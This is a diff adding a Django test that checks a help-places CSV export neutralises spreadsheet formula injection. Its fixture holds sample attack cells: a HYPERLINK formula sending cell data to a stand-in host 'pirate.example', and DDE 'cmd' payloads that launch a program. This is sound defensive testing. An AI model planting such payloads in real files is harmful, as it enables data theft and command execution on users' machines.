@@ -15,7 +15,8 @@ from directory import standard
 from directory.export import help_places_export_csv
 from directory.models import HelpPlace
 from directory.services import help_places_import
-from territories.models import EPCI
+from territories.models import EPCI, Commune
+from tests.directory.places import place as stored_place
 
 pytestmark = pytest.mark.django_db
 
@@ -154,6 +155,51 @@ def test_export_of_one_epci_then_reimport_for_it_changes_nothing(perche):
 
     assert (report.created, report.updated, report.unchanged) == (0, 0, 5)
     assert table() == before
+
+
+def test_a_stored_cell_a_spreadsheet_would_run_is_written_as_text(perche, tmp_path):
+    """A row stored before the import refused formulas: the export defuses each
+    such cell with a leading apostrophe (OWASP), and leaves the others as they are."""
+    nogent = Commune.objects.get(insee_code="28280")
+    stored_place(
+        nogent,
+        "lieu-ancien",
+        nom='=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")',
+        adresse="@SUM(1+1)*cmd|' /C calc'!A0",
+        complement_adresse="+cmd|' /C calc'!A0",
+        presentation_detail="-2+3",
+        source="\t=1+1",
+        structure_parente="\rSUM(1)",
+        typologie=["=cmd|' /C calc'!A0", "ASSO"],
+        telephone="+33237521234",
+        latitude=48.3217,
+        longitude=-0.8214,
+    )
+    data = help_places_export_csv()
+
+    (row,) = rows(data)
+    assert row["nom"] == '\'=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")'
+    assert row["adresse"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["complement_adresse"] == "'+cmd|' /C calc'!A0"
+    assert row["presentation_detail"] == "'-2+3"
+    assert row["source"] == "'\t=1+1"
+    assert row["structure_parente"] == "'\rSUM(1)"
+    assert row["typologie"] == "'=cmd|' /C calc'!A0|ASSO"
+    # A phone number, a negative number, a date: no formula, written as stored.
+    assert row["telephone"] == "+33237521234"
+    assert row["longitude"] == "-0.8214"
+    assert row["date_maj"] == "2026-11-02"
+    executable = [
+        name
+        for name, cell in row.items()
+        if cell[:1] in standard.FORMULA_STARTS
+        and name not in ("telephone", "longitude")
+    ]
+    assert executable == []
+    # Still a file in the standard.
+    path = tmp_path / "lieux.csv"
+    path.write_bytes(data)
+    assert errors(frictionless_validate(path)) == []
 
 
 def test_export_of_one_epci_holds_only_its_places(perche):
